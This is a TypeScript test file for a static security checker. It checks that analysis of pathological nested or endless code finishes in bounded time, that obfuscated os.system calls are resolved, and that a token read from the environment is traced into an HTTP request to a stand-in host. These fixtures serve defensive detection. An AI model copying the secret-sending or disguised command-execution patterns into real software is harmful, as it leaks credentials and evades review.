/** Programs that no one writes: deep, wide, broken, endless. They are read in bounded time. */
import { beforeAll, describe, expect, it } from "vitest";
import { findingsOf } from "../../../src/check/check.ts";
import { CODE_RULES } from "../../../src/check/rules/security-code.ts";
import { calls } from "../../../src/check/views/calls.ts";
import { loadGrammars, parseSyntax } from "../../../src/check/views/syntax.ts";
import { forgetViews } from "../../../src/check/views/view.ts";
import type { Skill } from "../../../src/skill/skill.ts";

beforeAll(loadGrammars);

const MANY = 100_000;
const HOSTILE: readonly (readonly [string, string, string])[] = [
  ["open parentheses", "a.py", `eval(${"(".repeat(MANY)}`],
  ["nested lists", "a.js", `eval(${"[".repeat(MANY)}`],
  ["nested calls", "a.py", `${"f(".repeat(2_000)}1${")".repeat(2_000)}`],
  ["a long sum", "a.py", `x = eval("a"${' + "a"'.repeat(20_000)})`],
  ["many assignments", "a.js", "let a = eval(a + a);\n".repeat(20_000)],
  ["functions that call each other", "a.py", mutual(400)],
  ["quotes without end", "a.js", `eval(${"'".repeat(MANY)}`],
  ["nested templates", "a.ts", `eval(${"`${".repeat(2_000)}`],
];

describe("hostile programs", () => {
  it.each(HOSTILE)("%s", (_name, path, text) => {
    const started = performance.now();
    findingsOf(skillWith(path, text), CODE_RULES, { profile: "load" });
    forgetViews();
    expect(performance.now() - started).toBeLessThan(20_000);
  });
});

describe("parsing", () => {
  it("says when a text is too long to be read to its end", () => {
    expect(parseSyntax("x = 1\n", "python")?.complete).toBe(true);
    expect(parseSyntax("x = 1\n".repeat(MANY), "python")?.complete).toBe(false);
  });
});

describe("calls", () => {
  it("sees what is called through aliases, attributes by text and imports by text", () => {
    const text =
      'import os as o\nf = getattr(o, "sys" + "tem")\nf("a")\n__import__("os").system("b")\n';
    const seen = calls(skillWith("a.py", text)).filter(({ names }) => names.includes("os.system"));
    forgetViews();
    expect(seen.map(({ line }) => line)).toEqual([3, 4]);
  });

  it("follows a value from file to file", () => {
    const skill = skillWith(
      "a.py",
      "from b import key\nimport requests\nrequests.get('https://a.test', data=key())\n",
      {
        path: "b.py",
        text: "import os\ndef key():\n    return os.environ['A_TOKEN']\n",
      },
    );
    const get = calls(skill).find(({ names }) => names.includes("requests.get"));
    forgetViews();
    expect(get?.args[1]?.value.taints.map(({ what }) => what)).toEqual(["A_TOKEN"]);
  });
});

function mutual(count: number): string {
  const functions = Array.from(
    { length: count },
    (_, index) =>
      `def f${index}(x):\n    return f${(index + 1) % count}(eval(x) + f${(index * 7) % count}(x))\n`,
  );
  return `${functions.join("")}f0("a")\n`;
}

function skillWith(path: string, text: string, ...more: { path: string; text: string }[]): Skill {
  const files = [{ path, text }, ...more].map((file) => {
    const bytes = new TextEncoder().encode(file.text);
    return { path: file.path, size: bytes.length, executable: false, bytes };
  });
  return {
    folder: "a",
    files,
    refused: [],
    ignored: [],
    skillText: { state: "absent", hint: undefined },
    definition: undefined,
  };
}
